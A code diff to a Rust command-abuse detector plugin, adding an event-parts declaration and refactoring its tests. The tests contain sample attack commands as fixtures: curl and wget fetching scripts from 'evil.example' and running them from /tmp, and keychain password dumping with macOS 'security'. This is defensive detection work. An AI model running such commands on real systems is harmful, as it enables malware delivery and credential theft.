@@ -565,6 +565,11 @@ impl Detector for CommandAbuse {
         )
     }
 
+    /// Only what it reads: argv, and the working directory a relative script path resolves against.
+    fn parts() -> EventParts {
+        EventParts::ARGS | EventParts::EXEC_CONTEXT
+    }
+
     fn on_event(&mut self, event: &Event) -> Result<Vec<Finding>, PluginError> {
         Ok(match event.as_exec() {
             Some(exec) => self.check(exec),
@@ -581,7 +586,7 @@ mod tests {
     use ward_sdk::testing;
 
     fn run(d: &mut CommandAbuse, path: &str, args: &[&str]) -> Vec<Finding> {
-        d.on_event(&testing::exec(path, args)).unwrap()
+        testing::deliver(d, &testing::exec(path, args)).unwrap()
     }
 
     fn rules(path: &str, args: &[&str]) -> Vec<String> {
@@ -893,9 +898,7 @@ mod tests {
         // ES reports the exec at its real path: /tmp is /private/tmp.
         let mut payload = testing::process("/private/tmp/u");
         payload.signer = SignerType::Unsigned;
-        let f = d
-            .on_event(&testing::exec_of(payload, &["/private/tmp/u"]))
-            .unwrap();
+        let f = testing::deliver(&mut d, &testing::exec_of(payload, &["/private/tmp/u"])).unwrap();
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].rule, "downloaded-file-executed");
         assert_eq!(f[0].attack, vec!["T1105"]);
@@ -925,7 +928,7 @@ mod tests {
         assert!(run(&mut d, "/bin/cat", &["cat", "/tmp/report.json"]).is_empty());
         assert!(run(&mut d, "/bin/sh", &["sh", "/tmp/other.sh"]).is_empty());
         assert!(
-            d.on_event(&testing::exec("/dev/null", &["/dev/null"]))
+            testing::deliver(&mut d, &testing::exec("/dev/null", &["/dev/null"]))
                 .unwrap()
                 .is_empty()
         );
@@ -946,12 +949,11 @@ mod tests {
             "/usr/bin/curl",
             &["curl", "-fsSLO", "https://evil.example/b.sh?x=1"],
         );
-        let a = d
-            .on_event(&testing::exec_of(
-                testing::process("/private/tmp/a"),
-                &["/private/tmp/a"],
-            ))
-            .unwrap();
+        let a = testing::deliver(
+            &mut d,
+            &testing::exec_of(testing::process("/private/tmp/a"), &["/private/tmp/a"]),
+        )
+        .unwrap();
         assert_eq!(a[0].rule, "downloaded-file-executed");
         let b = run(&mut d, "/bin/sh", &["sh", "b.sh"]);
         assert_eq!(
@@ -964,12 +966,11 @@ mod tests {
             "/usr/local/bin/wget",
             &["wget", "-qO", "/tmp/c", "https://evil.example/c"],
         );
-        let c = d
-            .on_event(&testing::exec_of(
-                testing::process("/private/tmp/c"),
-                &["/private/tmp/c"],
-            ))
-            .unwrap();
+        let c = testing::deliver(
+            &mut d,
+            &testing::exec_of(testing::process("/private/tmp/c"), &["/private/tmp/c"]),
+        )
+        .unwrap();
         assert_eq!(c.len(), 1);
         // `security find-generic-password -ga NAME`.
         let f = run(
@@ -981,9 +982,11 @@ mod tests {
         // Apple's `security` copied to /tmp/s keeps its signing identifier.
         let mut copy = testing::process("/tmp/s");
         copy.signing_id = Some("com.apple.security".into());
-        let f = d
-            .on_event(&testing::exec_of(copy, &["/tmp/s", "dump-keychain"]))
-            .unwrap();
+        let f = testing::deliver(
+            &mut d,
+            &testing::exec_of(copy, &["/tmp/s", "dump-keychain"]),
+        )
+        .unwrap();
         assert_eq!(f[0].rule, "keychain-credential-access");
     }
 
